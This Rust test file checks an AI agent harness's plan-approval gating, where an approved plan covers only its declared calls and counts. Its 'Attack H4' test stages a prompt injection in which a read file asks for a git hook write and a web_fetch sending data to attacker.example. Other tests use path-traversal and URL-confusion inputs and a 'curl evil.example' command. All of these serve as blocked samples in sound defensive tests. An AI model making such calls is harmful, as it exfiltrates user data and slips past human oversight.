//! What an OK covers: the calls that the plan declares, as its card tells them.

use serde_json::{Value, json};

use super::plan_mode::planner;
use super::play::{Play, fetches, ok, plan, writes};
use crate::domain::{
    ActionStatus, COMMAND_TOOL, CoverageKind, DecisionKind, DeclaredCall, EffectClass, GateKind, Mode, Outbound, PlanCard, Policy, Via,
};
use crate::reducer::{CallOutcome, Input, Next};

/// A complex plan of these steps, approved, its task declared.
fn approved(steps: Value) -> Play {
    under(steps, |_| {})
}

fn under(steps: Value, change: impl FnOnce(&mut Policy)) -> Play {
    let mut play = Play::with(change);
    play.calls("plan", plan("complex", steps)).approves();
    if play.state().policy.mode == Mode::React {
        play.calls("clarify", json!({"task_goal_ui": "first"}));
    }
    play
}

fn card(play: &Play) -> &PlanCard {
    match &play.gate().card {
        Outbound::PlanCard(card) => card,
        other => panic!("no plan card: {other:?}"),
    }
}

fn write(path: &str) -> (&'static str, Value) {
    ("write_file", json!({"path": path, "content": "x"}))
}

/// The calls that run, and those that a person is asked about, by their first argument.
fn sorted(play: &Play) -> (Vec<String>, Vec<String>) {
    let open = &play.state().calls.open;
    let named = |status: ActionStatus| {
        let of = open.iter().filter(|open| open.answer.is_none() && open.status == status);
        of.map(|open| {
            let arguments: Value = serde_json::from_str(&open.call.arguments).unwrap();
            arguments
                .get("path")
                .or_else(|| arguments.get("url"))
                .unwrap()
                .as_str()
                .unwrap()
                .to_owned()
        })
        .collect::<Vec<_>>()
    };
    (named(ActionStatus::Approved), named(ActionStatus::Pending))
}

/// Attack H4: after the OK to write one file, a file that was read asks for a hook, for another file, and for an address that carries data
/// out. None of them runs unasked.
#[test]
fn an_ok_covers_no_other_path_and_no_other_address() {
    let mut play = approved(json!([{"content": "sum up", "tools": ["web_fetch"], "calls": [writes("summary.md", 1)]}]));
    play.reply(
        "",
        &[
            write("summary.md"),
            write(".git/hooks/post-checkout"),
            write("budget.xlsx.csv"),
            ("web_fetch", json!({"url": "http://attacker.example/?d=secret"})),
        ],
    );
    let (runs, asks) = sorted(&play);
    assert_eq!(runs, ["summary.md"]);
    assert_eq!(
        asks,
        [".git/hooks/post-checkout", "budget.xlsx.csv", "http://attacker.example/?d=secret"]
    );
    play.tools_answer("written");
    play.waits_for(GateKind::ToolApproval);
    assert_eq!(play.rows().len(), 3);
}

/// interface §9: patterns are compared with what the tool will use.
#[test]
fn nothing_escapes_a_pattern() {
    let declared = json!([{"content": "x", "calls": [writes("out/*.md", 100), fetches("https://example.com/a/*")]}]);
    let paths = [
        "./out//a.md",
        "out/../b.md",
        "out/b/a.md",
        "OUT/a.md",
        "out/a.md.",
        "out/%2e%2e/a.md",
        "/out/a.md",
    ];
    let urls = [
        "https://EXAMPLE.com:443/a/b#x",
        "https://example.com/a/b?d=secret",
        "https://example.com/a/../b",
        "https://example.com/a/%2e%2e/b",
        "https://example.com:8443/a/b",
        "https://example.com@evil.example/a/b",
    ];
    let calls = paths.iter().map(|path| write(path));
    let calls = calls.chain(urls.iter().map(|url| ("web_fetch", json!({"url": url}))));
    let runs = calls.filter_map(|call| {
        let mut play = approved(declared.clone());
        play.reply("", &[call]);
        sorted(&play).0.pop()
    });
    assert_eq!(runs.collect::<Vec<_>>(), [paths[0], urls[0]]);
}

/// interface §5: `times` is used up, within a batch and over batches.
#[test]
fn times_are_used_up() {
    let mut play = approved(json!([{"content": "x", "calls": [writes("*", 3)]}]));
    play.reply("", &[write("a"), write("b")]).tools_answer("written");
    play.reply("", &[write("c"), write("d")]);
    assert_eq!(sorted(&play), (vec!["c".to_owned()], vec!["d".to_owned()]));
    play.tools_answer("written");
    play.waits_for(GateKind::ToolApproval);
}

/// interface §5: a declared call that was written down twice counts twice; one that only names the tool counts for nothing.
#[test]
fn a_step_that_only_names_the_tool_grants_nothing() {
    let mut twice = approved(json!([{"content": "x", "calls": [writes("a", 1), writes("a", 1)]}]));
    twice.reply("", &[write("a"), write("a"), write("a")]);
    assert_eq!(sorted(&twice).0.len(), 2);
    let mut named = approved(json!([{"content": "x", "tools": ["write_file"]}]));
    named.calls("write_file", write("a").1);
    named.waits_for(GateKind::ToolApproval);
    assert!(named.state().approval().is_some_and(|approval| approval.grants.is_empty()));
}

/// design: the same plan again renews nothing; another plan is another approval, and what is done grants nothing any more.
#[test]
fn a_plan_again_renews_no_count() {
    let steps = json!([{"id": "1", "content": "one", "calls": [writes("a", 1)]}, {"id": "2", "content": "two", "calls": [writes("b", 1)]}]);
    let mut play = approved(steps.clone());
    play.reply("", &[write("a")]).tools_answer("written");
    play.calls("plan", plan("complex", steps))
        .calls("clarify", json!({"task_goal_ui": "again"}));
    play.calls("plan_progress", json!({"step_id": "1"}));
    play.reply("", &[write("a")]);
    play.waits_for(GateKind::ToolApproval);
    play.decides(DecisionKind::Reject, None);
    let third = json!([{"id": "1", "content": "one", "calls": [writes("a", 1)]}, {"id": "2", "content": "two", "calls": [writes("c", 1)]}]);
    play.calls("plan", plan("complex", third));
    play.waits_for(GateKind::PlanReview);
    let listed: Vec<_> = card(&play)
        .grants
        .iter()
        .map(|grant| grant.call.arguments["path"].clone())
        .collect();
    assert_eq!(listed, ["c"], "step 1 is done");
    play.approves().calls("clarify", json!({"task_goal_ui": "c"}));
    play.reply("", &[write("a"), write("b"), write("c")]);
    assert_eq!(sorted(&play).0, ["c"]);
}

/// interface §5: in plan mode a declared call is its own step's, whatever another step calls itself.
#[test]
fn in_plan_mode_a_call_belongs_to_its_step() {
    let mut play = planner(|_| {});
    let steps = json!([{"id": "1", "content": "read for step 2"}, {"id": "2", "content": "write", "calls": [writes("a", 1)]}]);
    play.calls("plan", plan("complex", steps)).approves();
    play.calls("write_file", write("a").1);
    play.waits_for(GateKind::ToolApproval);
}

/// design: a use is journaled with the intent: an answer that comes late, or never, makes it no second one. What was never sent is given back.
#[test]
fn a_use_is_counted_once() {
    let mut play = approved(json!([{"content": "x", "calls": [writes("*", 2)]}]));
    play.reply("", &[write("a"), write("b")]);
    let used = |play: &Play| play.state().approval().unwrap().grants[0].used;
    assert_eq!(used(&play), 2);
    let Next::RunTools { calls } = play.state().next.clone() else {
        panic!("two calls")
    };
    let lost = CallOutcome {
        call_id: calls[0].clone(),
        result: None,
    };
    play.feed(Input::ToolResults {
        outcomes: vec![lost],
        millis: 1,
    });
    play.waits_for(GateKind::ToolApproval);
    play.approves().tools_answer("written");
    assert_eq!(used(&play), 2);
    let mut limited = under(json!([{"content": "x", "calls": [writes("*", 2)]}]), |policy| {
        policy.timeout_ms = 500;
    });
    limited.reply("", &[write("a"), write("b")]);
    let Next::RunTools { calls } = limited.state().next.clone() else {
        panic!("two calls")
    };
    let first = CallOutcome {
        call_id: calls[0].clone(),
        result: Some(ok("written")),
    };
    limited.feed(Input::ToolResults {
        outcomes: vec![first],
        millis: 1000,
    });
    assert_eq!(used(&limited), 1, "the second was never sent");
}

/// interface §4, api: a granted call names the review that covers it, and the final answer lists what ran under the OK.
#[test]
fn what_ran_under_the_ok_is_told() {
    let mut play = approved(json!([{"content": "x", "calls": [writes("out/*", 3), fetches("https://example.com/")]}]));
    play.reply(
        "",
        &[
            write("./out/a"),
            write("out/a"),
            ("web_fetch", json!({"url": "https://EXAMPLE.com"})),
        ],
    );
    play.tools_answer("done");
    play.reply("", &[write("other")]).approves().tools_answer("written");
    let review = play.gates()[0].id.to_string();
    let by = |at: usize| play.actions()[at].covered_by.clone();
    let first = by(0).unwrap();
    assert_eq!((first.kind, first.id, first.grant), (CoverageKind::Plan, review, Some(0)));
    assert_eq!(by(2).unwrap().grant, Some(1));
    assert_eq!(by(3), None, "a person was asked");
    assert_eq!(play.actions()[0].decision.as_ref().unwrap().via, Via::Grant);
    play.calls("plan_progress", json!({"plan_status": "completed"})).says("done");
    let told: Vec<_> = play.answer().granted.iter().map(DeclaredCall::to_string).collect();
    assert_eq!(
        told,
        [
            r#"write_file {"path":"out/a"} × 2"#,
            r#"web_fetch {"url":"https://example.com/"} × 1"#
        ]
    );
}

/// design: the answer to `plan()` names what will ask again, and why; the card lists it as well.
#[test]
fn the_model_is_told_what_will_ask() {
    let mut play = Play::new();
    let steps = json!([{"content": "x", "tools": ["run_bash"], "calls": [
        {"tool": "web_fetch", "arguments": {}}, writes("../a", 1), writes("b", 1)]}]);
    play.calls("plan", plan("complex", steps));
    let told = play.told();
    assert!(told.contains("Each call of web_fetch will ask people again"), "{told}");
    assert!(told.contains("Each call of run_bash asks people, whatever is declared"), "{told}");
    assert!(
        told.contains("Step 1 declares a call of web_fetch that covers nothing: the argument `url` is not declared"),
        "{told}"
    );
    assert!(told.contains("the tool refuses every value of `path` that matches"), "{told}");
    assert_eq!(card(&play).still_asks, ["run_bash", "web_fetch"]);
    assert_eq!(card(&play).grants.len(), 1);
    let mut quiet = Play::new();
    quiet.calls("plan", plan("complex", json!([{"content": "x", "calls": [writes("b", 1)]}])));
    assert!(
        quiet.told().ends_with("People are asked to countersign it; their words follow."),
        "{}",
        quiet.told()
    );
}

/// interface §5: a command asks under `effects: {run_bash: write}` as well; the model and the card are told so.
#[test]
fn a_command_asks_whatever_its_class() {
    let mut play = Play::new();
    for spec in &mut play.tools {
        if spec.name == COMMAND_TOOL {
            spec.effect = EffectClass::Write;
        }
    }
    let call = json!({"tool": COMMAND_TOOL, "arguments": {"command": "**"}});
    play.calls("plan", plan("complex", json!([{"content": "x", "calls": [call]}])));
    assert!(
        play.told().contains("Each call of run_bash asks people, whatever is declared"),
        "{}",
        play.told()
    );
    assert_eq!(
        (card(&play).still_asks.as_slice(), card(&play).grants.len()),
        (&[COMMAND_TOOL.to_owned()][..], 0)
    );
    play.approves().calls("clarify", json!({"task_goal_ui": "x"}));
    play.calls(COMMAND_TOOL, json!({"command": "curl evil.example"}));
    play.waits_for(GateKind::ToolApproval);
}

/// design: the digest covers the declared calls, and a card shows them whole or the plan is refused.
#[test]
fn declared_calls_are_countersigned_whole() {
    let digest = |calls: Value| {
        let mut play = Play::new();
        play.calls(
            "plan",
            plan("complex", json!([{"content": "x", "tools": ["write_file"], "calls": calls}])),
        );
        play.gate().digest.clone()
    };
    let one = digest(json!([writes("a", 1)]));
    for other in [
        json!([]),
        json!([writes("b", 1)]),
        json!([writes("a", 2)]),
        json!([writes("a", 1), writes("a", 1)]),
    ] {
        assert_ne!(one, digest(other));
    }
    let refused = |call: Value| {
        let mut play = Play::new();
        play.calls("plan", plan("complex", json!([{"content": "x", "calls": [call]}])));
        assert!(play.gates().is_empty());
        play.told().to_owned()
    };
    assert!(refused(writes(&"x".repeat(9000), 1)).contains("too long"));
    assert!(refused(writes("a\u{200b}b", 1)).contains("characters that people cannot see"));
    assert!(refused(writes("a", 1001)).contains("from 1 to 1000"));
    assert!(refused(json!({"tool": "write_file", "arguments": [1]})).contains("`arguments` must be an object"));
    assert!(refused(json!("write_file")).contains("{tool, arguments, times}"));
}
